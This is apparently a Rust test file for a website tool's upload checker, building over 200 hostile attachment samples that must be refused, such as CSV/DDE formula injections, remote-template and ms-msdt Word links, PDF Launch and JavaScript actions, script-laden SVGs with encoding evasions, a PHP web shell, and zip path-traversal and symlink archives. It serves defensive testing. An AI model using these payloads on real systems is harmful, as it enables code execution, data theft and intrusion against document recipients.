//! Attachments that would run on the host or on a reader's computer, whatever they are called: each is refused, none is
//! published, and what looks like them is not refused. The real program runs over all of them at once.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;

use serde_json::Value;

use crate::paper;
use crate::support::{code, copy, folder, prongsai, said, site};

const MACRO: &[u8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 VBA";

fn svg(inside: &str) -> Vec<u8> {
    format!("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' {inside}</svg>").into()
}

/// A form of PDF with an action of its own.
fn pdf_action(action: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_owned(),
    ];
    paper::written(&objects, "")
}

fn word(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![("word/document.xml", b"<w:document><w:p><w:t>a</w:t></w:p></w:document>")];
    all.extend(parts);
    paper::archive(&all)
}

/// A Word document that a relation of this kind leads elsewhere.
fn related(kind: &str, target: &str) -> Vec<u8> {
    let relation = format!(
        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
    );
    word(&[("word/_rels/document.xml.rels", relation.as_bytes())])
}

fn field(code: &str) -> Vec<u8> {
    paper::docx(&format!("{}<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>", paper::paragraphs("แผน")), &[])
}

/// A workbook with a formula in a cell, and a part beside its sheet.
fn calculated(formula: &str, beside: &[(&str, &str)]) -> Vec<u8> {
    let table = paper::rows(&[&["ที่", "รายการ"], &["1", "กระดาษถ่ายเอกสาร"], &["2", "หมึกพิมพ์"]]);
    let rows = format!("{table}<row r='4'><c r='B4'><f>{formula}</f><v>0</v></c></row>");
    paper::xlsx(&[paper::Sheet { name: "รายการ", state: "visible", rows }], &[], beside)
}

/// A text, sheet or slides of OpenDocument with this in its body.
fn open_document(kind: &str, body: &str) -> Vec<u8> {
    let content =
        format!("<o:document><o:body><o:{kind}><text:p>แผนปฏิบัติการ</text:p>{body}</o:{kind}></o:body></o:document>");
    let kind = format!("application/vnd.oasis.opendocument.{kind}");
    paper::archive(&[("mimetype", kind.as_bytes()), ("content.xml", content.as_bytes())])
}

fn slides(inside: &str) -> Vec<u8> {
    let slide = format!("<p:sld><a:t>แผนปฏิบัติการ</a:t>{inside}</p:sld>");
    paper::archive(&[("ppt/presentation.xml", b"<p:presentation/>"), ("ppt/slides/slide1.xml", slide.as_bytes())])
}

/// A PDF whose page has this entry more, with an object beside.
fn pdf_with(page: &str, object: &str) -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>"),
        object.to_owned(),
    ];
    paper::written(&objects, "")
}

fn pdf_link(action: &str) -> Vec<u8> {
    pdf_with(&format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << {action} >> >>]"), "<< >>")
}

/// A table of three rows with this cell in the last.
fn table(cell: &str) -> Vec<u8> {
    format!("ที่,รายการ\n1,กระดาษถ่ายเอกสาร\n2,{cell}\n").into()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// What starts a program or fetches something when a spreadsheet, Word or a reader of PDF opens it.
fn started() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, bytes: Vec<u8>| all.push((name.to_owned(), bytes));
    for (at, cell) in [
        "=cmd|' /C calc'!A0",
        "\"=cmd|'/C calc'!A0\"",
        "\"\n=cmd|' /C calc'!A0\"",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=cmd|' /C calc'!A0",
        "＝cmd|' /C calc'!A0",
        "=c m d |' /C calc'!A0",
        "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
        "\"=WEBSERVICE(\"\"http://other.example/\"\"&A1)\"",
        "\"=IMPORTXML(\"\"http://other.example\"\",\"\"//a\"\")\"",
        "\"=RTD(\"\"x\"\",\"\"\"\",\"\"y\"\")\"",
        "\"=HYPERLINK(\"\"http://other.example/?x=\"\"&A1,\"\"คลิก\"\")\"",
        "\"=CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCJJ\"\",0,\"\"http://other.example\"\",\"\"a\"\",0,0)\"",
        "=EXEC(\"calc\")",
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("cell{at}.csv"), table(cell));
    }
    let dde = "ที่;รายการ\n1;=cmd|' /C calc'!A0\n2;กขค\n";
    add("half.csv", dde.into());
    add("said.csv", format!("sep=;\n{dde}").into());
    add("wide.csv", wide(&format!("\u{FEFF}{dde}")));
    add("dde.txt", "แผนปฏิบัติการ\n=cmd|' /C calc'!A0\n".into());
    add("cell.zip", paper::archive(&[("a.csv", &table("=cmd|' /C calc'!A0"))]));
    for name in ["sylk.csv", "sylk.txt"] {
        add(name, "ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\nE\n".into());
    }
    for (name, kind, target) in [
        ("template", "attachedTemplate", "http://other.example/t.dotm"),
        ("share", "attachedTemplate", "file:///\\\\10.1.1.1\\x\\t.dotm"),
        ("object", "oleObject", "http://other.example/a.html!x"),
        ("frame", "frame", "http://other.example/a.html"),
        ("part", "subDocument", "http://other.example/a.docx"),
        ("chunk", "aFChunk", "https://other.example/a.mht"),
        ("picture", "image", "http://other.example/track.png"),
        ("script", "hyperlink", "javascript:alert(1)"),
        ("tool", "hyperlink", "file:///c:/windows/system32/cmd.exe"),
        ("scheme", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("search", "hyperlink", "search-ms:query=a&amp;crumb=location:\\\\other"),
        ("unc", "hyperlink", "\\\\other.example\\a.docx"),
        ("book", "externalLinkPath", "\\\\other.example\\a.xlsx"),
        ("vba", "vbaProject", "stuff.dat"),
    ] {
        add(&format!("rel-{name}.docx"), related(kind, target));
    }
    for (at, code) in [
        "INCLUDETEXT \"http://other.example/a.docx\"",
        "INCLUDEPICTURE \"https://other.example/a.png\" \\d",
        "MACROBUTTON AutoOpen click",
        "QUOTE 68 68 69 65 85 84 79 32",
        "DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe",
        "PAGE</w:instrText></w:r><w:r><w:fldChar/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe",
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("field{at}.docx"), field(code));
    }
    for (name, part, text) in [
        ("ribbon", "customUI/customUI.xml", "<customUI onLoad='x.dotm!load'/>"),
        ("control", "word/controls/a.xml", "<ax:ocx ax:classid='{0}'/>"),
        ("web", "word/webextensions/w.xml", "<we:reference store='\\\\other\\share' storeType='FileSystem'/>"),
        (
            "merge",
            "word/settings.xml",
            "<w:settings><w:mailMerge><w:connectString w:val='x'/></w:mailMerge></w:settings>",
        ),
        ("js", "word/embeddings/run.js", "new ActiveXObject('WScript.Shell')"),
        ("bat", "word/embeddings/run.bat", "@echo off"),
        ("page", "word/embeddings/a.html", "<html><script>alert(1)</script></html>"),
        (
            "project",
            "[Content_Types].xml",
            "<Types><Default ContentType='application/vnd.ms-office.vbaProject'/></Types>",
        ),
    ] {
        add(&format!("part-{name}.docx"), word(&[(part, text.as_bytes())]));
    }
    let package =
        [b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0", &*wide("\u{1}Ole10Native"), b"\x02\0run.bat\0C:\\run.bat\0"];
    add("part-package.docx", word(&[("word/embeddings/oleObject1.bin", &package.concat())]));
    for (at, formula) in [
        "cmd|' /C calc'!A0",
        "WEBSERVICE(\"http://other.example/\"&amp;B2)",
        "RTD(\"x\",\"\",\"y\")",
        "_xlfn.IMAGE(\"http://other.example/a.png\")",
        "HYPERLINK(\"file:///c:/windows/system32/cmd.exe\",\"x\")",
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("formula{at}.xlsx"), calculated(formula, &[]));
    }
    for (at, (part, text)) in [
        ("xl/connections.xml", "<connections><connection><webPr url='http://other.example/a'/></connection></connections>"),
        ("xl/connections.xml", "<connections><connection><dbPr connection='Provider=SQLOLEDB;Data Source=other'/></connection></connections>"),
        ("xl/externalLinks/a.xml", "<externalLink><oleLink progId='htmlfile'/></externalLink>"),
        ("xl/names.xml", "<definedNames><definedName name='_xlnm.Auto_Open'>Sheet1!$A$1</definedName></definedNames>"),
        ("xl/sheets/sheet9.xml", "<xm:macrosheet><sheetData/></xm:macrosheet>"),
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("book{at}.xlsx"), calculated("A1", &[(part, text)]));
    }
    for (at, inside) in [
        "<a:hlinkMouseOver action='ppaction://program'/>",
        "<a:hlinkClick action='ppaction://macro?name=a'/>",
        "<p:cmd type='verb' cmd='0'/>",
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("slide{at}.pptx"), slides(inside));
    }
    let run = "vnd.sun.star.script:a.py$f?language=Python";
    for (at, (kind, body)) in [
        ("text", format!("<script:event-listener script:event-name='dom:load' xlink:href='{run}'/>")),
        ("text", format!("<text:a xlink:href='{run}'>ก</text:a>")),
        ("text", "<text:script script:language='JavaScript'>alert(1)</text:script>".to_owned()),
        ("text", "<text:execute-macro text:name='x'>m</text:execute-macro>".to_owned()),
        ("text", "<form:button form:button-type='url' xlink:href='javascript:alert(1)'/>".to_owned()),
        ("text", "<draw:image xlink:href='http://other.example/a.png'/>".to_owned()),
        ("text", "<text:section-source xlink:href='http://other.example/a.odt'/>".to_owned()),
        ("text", "<draw:floating-frame xlink:href='http://other.example/'/>".to_owned()),
        (
            "presentation",
            "<presentation:event-listener presentation:action='execute' xlink:href='file:///c:/a.exe'/>".to_owned(),
        ),
        (
            "spreadsheet",
            "<table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)'/>".to_owned(),
        ),
        ("spreadsheet", "<table:table-cell table:formula='of:=COM.MICROSOFT.WEBSERVICE([.A1])'/>".to_owned()),
    ]
    .into_iter()
    .enumerate()
    {
        let ending = if kind == "text" {
            "odt"
        } else if kind == "presentation" {
            "odp"
        } else {
            "ods"
        };
        add(&format!("open{at}.{ending}"), open_document(kind, &body));
    }
    for (at, action) in [
        "/S /URI /URI (javascript:alert\\(1\\))",
        "/S /URI /URI (file:///c:/windows/system32/cmd.exe)",
        "/S /GoToR /F (\\\\\\\\other\\\\a.pdf) /D [0 /Fit]",
        "/S /Thread /F (\\\\\\\\other\\\\a.pdf) /D 0",
        "/S /SubmitForm /F << /FS /URL /F (http://other.example) >>",
        "/S /Sound /Sound << /F (http://other.example/a) >>",
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("link{at}.pdf"), pdf_link(action));
    }
    for (at, object) in [
        "<< /Type /Annot /Subtype /RichMedia >>".to_owned(),
        "<< /Type /Annot /Subtype /Movie /Movie << /F (http://other.example/a.swf) >> >>".to_owned(),
        paper::stream("/Type /3D /OnInstantiate 3 0 R ", "x"),
        paper::stream("/Type /XObject /Subtype /PS ", "%!PS (cmd) run"),
        paper::stream("/F << /FS /URL /F (http://other.example/a) >> ", ""),
        paper::stream("/Subtype /Form /Ref << /F (http://other.example/a.pdf) /Page 0 >> ", "0 0 9 9 re f"),
        paper::stream(
            "",
            "<x:xdp xmlns:x='x'><t:event activity='initialize'><t:script>app.alert(1)</t:script></t:event></x:xdp>",
        ),
        paper::stream("", "<xdp><event activity='docReady'><submit target='http://other.example/'/></event></xdp>"),
        paper::stream("", "<?xml-stylesheet href='http://other.example/a.xslt'?><xdp/>"),
    ]
    .into_iter()
    .enumerate()
    {
        add(&format!("object{at}.pdf"), pdf_with("", &object));
    }
    let script = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
    add("little.svg", wide(script));
    add("big.svg", script.encode_utf16().flat_map(u16::to_be_bytes).collect());
    add("declared.svg", wide(&format!("<?xml version='1.0' encoding='UTF-16LE'?>{script}")));
    let escaped = script.replace("script", "scr\u{1B}(Bipt");
    add("escape.svg", format!("<?xml version='1.0' encoding='iso-2022-jp'?>{escaped}").into());
    add("escape.xml", format!("<?xml version='1.0' encoding='iso-2022-jp'?><x>{escaped}</x>").into());
    add("source.svg", svg("><h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='//other.example/a 2x'/>"));
    add("alarm.ics", "BEGIN:VCALENDAR\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM\nEND:VCALENDAR\n".into());
    add("attach.ics", "BEGIN:VCALENDAR\nATTACH;FMTTYPE=a/b:ftp://other.example/a/b.exe\nEND:VCALENDAR\n".into());
    add("mark.txt", "\u{FEFF}<?php system($_GET['c']);".into());
    for name in
        ["a.com.pdf", "a.jse.pdf", "a.ws.pdf", "a.msc.pdf", "a.reg.pdf", "a.gadget.pdf", "a.php_.pdf", "a.phtm.pdf"]
    {
        add(name, paper::pdf(&["แผน"]));
    }
    for name in ["a.php-s.txt", "a.asax.txt", "web.config.xml", "a.vb.txt"] {
        add(name, "แผนปฏิบัติการ".into());
    }
    let plan = paper::pdf(&["แผน"]);
    for (at, name) in ["a.php.pdf", "a.exe .pdf", "index.php.txt", ".hidden.pdf"].into_iter().enumerate() {
        let bytes = if name.ends_with("txt") { b"x" } else { &plan[..] };
        add(&format!("member{at}.zip"), paper::archive(&[(name, bytes)]));
    }
    let mut linked = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    linked.add_symlink("plan.txt", "../../../etc/passwd", zip::write::SimpleFileOptions::default()).expect("a link");
    add("linked.zip", linked.finish().expect("an archive").into_inner());
    add("behind.pdf", [plan.clone(), paper::archive(&[("a.exe", b"MZ")])].concat());
    add("before.pdf", [b"%PDF-1.7\n".to_vec(), paper::archive(&[("a.exe", b"MZ")])].concat());
    add("beside.docx", word(&[("plan.pdf", &plan)]));
    add("within.docx", word(&[("word/a.exe", b"MZ")]));
    all
}

fn dangerous() -> Vec<(&'static str, Vec<u8>)> {
    let plain = |text: &str| text.as_bytes().to_vec();
    let page = || plain("<!DOCTYPE html><title>Sign in</title><script>location='https://slot.example'</script>");
    let program = || b"MZ\x90\0\x03\0\0\0".to_vec();
    let macros = br#"<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let mut all: Vec<(&str, Vec<u8>)> = Vec::new();
    for name in ["a.php", "a.phtml", "a.php5", "a.phar", "a.asp", "a.aspx", "a.jsp", "a.cgi", "a.pl", "a.py", "a.shtml"]
    {
        all.push((name, plain("x")));
    }
    for name in ["b.exe", "b.dll", "b.scr", "b.msi", "b.com", "report.pdf.exe"] {
        all.push((name, program()));
    }
    for name in ["c.html", "c.htm", "c.xhtml", "c.mht", "c.hta", "c.pdf", "c.doc", "c.xls", "c.jpg", "c.txt", "c.xml"] {
        all.push((name, page()));
    }
    for name in ["d.js", "d.vbs", "d.bat", "d.cmd", "d.ps1", "d.wsf", "d.lnk", "d.url", "d.jar", "d.apk", "d.swf"] {
        all.push((name, plain("x")));
    }
    for name in [".htaccess", ".user.ini", "web.config", "noending", "all.rar", "all.7z", "page.svgz"] {
        all.push((name, plain("x")));
    }
    all.extend([
        ("e.php.pdf", paper::pdf(&["แผน"])),
        ("e.PHP", plain("x")),
        ("tool.pdf", program()),
        ("tool.docx", program()),
        ("both.pdf", [program(), paper::pdf(&["แผน"])].concat()),
        ("page-and.pdf", [page(), paper::pdf(&["แผน"])].concat()),
        ("unknown.pdf", vec![0, 1, 2, 3, 4, 5, 6, 7]),
        ("script.csv", plain("<?php system($_GET['c']);")),
        ("wide.txt", "\u{FEFF}<html><script>".encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("f.docm", word(&[("word/vbaProject.bin", MACRO)])),
        ("f.docx", word(&[("word/vbaProject.bin", MACRO)])),
        ("type.docx", word(&[("[Content_Types].xml", macros)])),
        (
            "f.xlsx",
            paper::archive(&[
                ("xl/workbook.xml", b"<w/>"),
                ("xl/_rels/workbook.xml.rels", b"<R/>"),
                ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
            ]),
        ),
        (
            "f.ods",
            paper::archive(&[
                ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                ("content.xml", b"<o><p>a</p></o>"),
                ("Basic/Standard/Module1.xml", b"<script:module>Sub Main</script:module>"),
            ]),
        ),
        ("g.zip", paper::archive(&[("plan.pdf", &paper::pdf(&["ก"])), ("shell.php", b"<?php")])),
        ("leaves.zip", paper::archive(&[("../../plan.pdf", &paper::pdf(&["ก"]))])),
        ("root.zip", paper::archive(&[("/etc/plan.pdf", &paper::pdf(&["ก"]))])),
        ("windows.zip", paper::archive(&[("a\\..\\..\\plan.pdf", &paper::pdf(&["ก"]))])),
        ("embedded.docx", word(&[("word/embeddings/tool.bin", b"MZ\x90\0")])),
        (
            "packaged.docx",
            word(&[("word/embeddings/oleObject1.bin", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 MZ This program cannot be run in DOS mode.")]),
        ),
        ("h.zip", paper::archive(&[("plan.pdf", b"MZ\x90\0")])),
        ("word.zip", paper::archive(&[("word/a.txt", b"a"), ("shell.php", b"<?php")])),
        ("i.zip", paper::archive(&[("inner.zip", &paper::archive(&[("a.exe", b"MZ")]))])),
        ("j.zip", paper::archive(&[("form.docx", &word(&[("word/vbaProject.bin", MACRO)]))])),
        ("k.svg", svg("><script>alert(1)</script>")),
        ("l.svg", svg("onload='alert(1)'>")),
        ("m.svg", svg("><a xlink:href='java&#115;cript:alert(1)'><path/></a>")),
        ("n.svg", svg("><image href='https://other.example/a.png'/>")),
        ("o.svg", svg("><style>@import url(https://other.example/a.css);</style>")),
        ("p.svg", svg("><foreignObject><iframe src='https://other.example/'/></foreignObject>")),
        ("q.svg", svg("><set attributeName='href' to='javascript:alert(1)'/>")),
        ("r.xml", plain("<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>")),
        (
            "name.xml",
            plain(
                "<!DOCTYPE x [<!ENTITY n 'http://www.w3.org/1999/xhtml'>]><x><h:script xmlns:h='&n;'>alert(1)</h:script></x>",
            ),
        ),
        (
            "list.kml",
            plain(
                "<!DOCTYPE x [<!ATTLIST script xmlns CDATA #FIXED 'http://www.w3.org/1999/xhtml'>]><x><script>alert(1)</script></x>",
            ),
        ),
        (
            "list.svg",
            plain("<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg'/>"),
        ),
        (
            "word.svg",
            plain(
                "<!DOCTYPE svg [<!ENTITY a 'javascr'>]><svg xmlns='http://www.w3.org/2000/svg'><a href='&a;ipt:alert(1)'/></svg>",
            ),
        ),
        (
            "s.xml",
            plain("<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://other.example/a.xsl'?><x/>"),
        ),
        ("t.pdf", pdf_action("/S /JavaScript /JS (app.alert\\(1\\))")),
        ("u.pdf", pdf_action("/S /Launch /F (cmd.exe)")),
        ("v.pdf", pdf_action("/S /SubmitForm /F (https://other.example/)")),
        ("w.pdf", pdf_action("/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://other.example/) >>")),
        ("x.pdf", pdf_action("/S /ImportData /F (a.fdf)")),
        ("y.kml", plain("<?xml version='1.0'?><kml><NetworkLink><Link><href>https://other.example/</href></Link></NetworkLink></kml>")),
        ("z.kml", plain("<?xml version='1.0'?><kml><description><![CDATA[<script>1</script>]]></description></kml>")),
        ("seven.svg", plain("<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-</svg>")),
    ]);
    all
}

/// What looks a little like the above and is none of it.
fn harmless() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("plan.v1.2.pdf", paper::pdf(&["แผนพัฒนา"])),
        ("opened.pdf", pdf_action("/S /GoTo /D [3 0 R /Fit]")),
        ("seal.svg", svg("><style>path{fill:url(#a)}</style><a href='#a'><path id='a' d='M0 0'/></a>")),
        ("note.txt", "ดูหน้า <html> และ javascript: ในคู่มือ".into()),
        ("list.csv", "ชื่อ,จำนวน\nกระดาษ,1\n".into()),
        ("map.kml", "<?xml version='1.0'?><kml xmlns='http://www.opengis.net/kml/2.2'><name>ก</name></kml>".into()),
        ("area.geojson", "{\"type\": \"FeatureCollection\", \"features\": []}".into()),
        ("link.docx", paper::docx(&paper::paragraphs("แผนพัฒนา"), &[])),
        ("web.docx", related("hyperlink", "https://www.example.go.th/a?b=1")),
        ("mail.docx", related("hyperlink", "mailto:a@example.com")),
        ("own.docx", related("hyperlink", "file:///C:/Users/a/Documents/plan.docx")),
        ("template.docx", related("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Report.dotx")),
        ("inner.docx", related("image", "media/image1.png")),
        ("page.docx", field("PAGE \\* MERGEFORMAT")),
        ("address.docx", field("HYPERLINK \"https://www.example.go.th/\"")),
        ("button.docx", field("MACROBUTTON NoMacro [คลิก]")),
        (
            "theme.docx",
            word(&[("word/theme/theme1.xml", b"<a:theme/>"), ("word/embeddings/a.xlsx", &calculated("A1", &[]))]),
        ),
        ("sum.xlsx", calculated("SUM(A1:A3)+'a|b'!A1", &[("xl/printerSettings/a.xml", "<p/>")])),
        ("open.xlsx", calculated("HYPERLINK(\"https://www.example.go.th/?a=\"&amp;A1,\"ดู\")", &[])),
        (
            "query.xlsx",
            calculated(
                "A1",
                &[("xl/connections.xml", "<c><dbPr connection='Provider=Microsoft.Mashup.OleDb.1;'/></c>")],
            ),
        ),
        ("next.pptx", slides("<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/><p:cmd type='call'/>")),
        ("next.odp", open_document("presentation", "<presentation:event-listener presentation:action='next-page'/>")),
        ("sum.ods", open_document("spreadsheet", "<table:table-cell table:formula='of:=SUM([.A1:.A3])'/>")),
        (
            "link.odt",
            open_document(
                "text",
                "<text:a xlink:href='https://www.example.go.th/'>ก</text:a><draw:image xlink:href='Pictures/a.png'/><form:form xlink:href=''/>",
            ),
        ),
        ("link.pdf", pdf_link("/S /URI /URI (https://www.example.go.th/)")),
        ("other.pdf", pdf_link("/S /GoToR /F (plan.pdf) /D [0 /Fit]")),
        ("file.pdf", pdf_link("/S /URI /URI (file:///C:/Users/a/plan.docx)")),
        ("sums.csv", table("-5,=A1+B1,\"=\"\"3500001\"\"\",+66 42 123456,- หัวข้อ,@ ก")),
        ("heads.csv", "ID;Phone\n1;ก\n2;ข\n".into()),
        ("list.txt", "แผนปฏิบัติการ\n- เรียก CALL(1) | ก\n+ ข้อ 2\n".into()),
        ("old.svg", [b"<?xml version='1.0' encoding='TIS-620'?>".to_vec(), svg("><path/>")].concat()),
        (
            "data.xml",
            "<?xml version='1.0' encoding='UTF-8'?><a><image href='https://a.example/a.png'/><f>1</f></a>".into(),
        ),
        (
            "meet.ics",
            "BEGIN:VCALENDAR\nSUMMARY:ประชุม\nACTION:DISPLAY\nATTACH:https://example.com\nEND:VCALENDAR\n".into(),
        ),
        ("v1.2.zip", paper::archive(&[("plan.v1.2.pdf", &paper::pdf(&["แผน"]))])),
        ("all.zip", paper::archive(&[("plan.pdf", &paper::pdf(&["แผน"])), ("list.csv", "ก,ข\n".as_bytes())])),
    ]
}

#[test]
fn what_would_run_is_refused_and_what_looks_like_it_is_not() {
    let place = folder();
    let own = place.path().join("site");
    copy(&site("two-years"), &own);
    let files = own.join("content/files");
    fs::create_dir_all(&files).expect("a folder can be made");
    let named = |(name, bytes): (&str, Vec<u8>)| (name.to_owned(), bytes);
    let dangerous: Vec<_> = dangerous().into_iter().map(named).chain(started()).collect();
    let harmless: Vec<_> = harmless().into_iter().map(named).collect();
    let names: BTreeSet<_> = dangerous.iter().chain(&harmless).map(|(name, _)| name).collect();
    assert_eq!(names.len(), dangerous.len() + harmless.len(), "each has a name of its own");
    for (name, bytes) in dangerous.iter().chain(&harmless) {
        fs::write(files.join(name), bytes).expect("a file can be written");
    }
    let check = prongsai(&["--site", &own.to_string_lossy(), "check", "--format", "json"]).output().expect("it runs");
    assert_eq!(code(&check), 1, "{}", said(&check));
    let report: Value = serde_json::from_slice(&check.stdout).expect("a report in JSON");
    let mut errors: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for finding in report["findings"].as_array().expect("findings") {
        let path = finding["path"].as_str().unwrap_or_default();
        if let (Some(name), Some("error")) = (path.strip_prefix("content/files/"), finding["severity"].as_str()) {
            errors.entry(name).or_default().insert(finding["code"].as_str().unwrap_or_default());
        }
    }
    let passed: Vec<_> = dangerous.iter().map(|(name, _)| &**name).filter(|name| !errors.contains_key(name)).collect();
    assert!(passed.is_empty(), "{} of {} pass: {passed:?}", passed.len(), dangerous.len());
    assert!(dangerous.len() >= 200, "{}", dangerous.len());
    for (name, _) in &harmless {
        assert_eq!(errors.get(&**name), None, "{name}");
    }
}
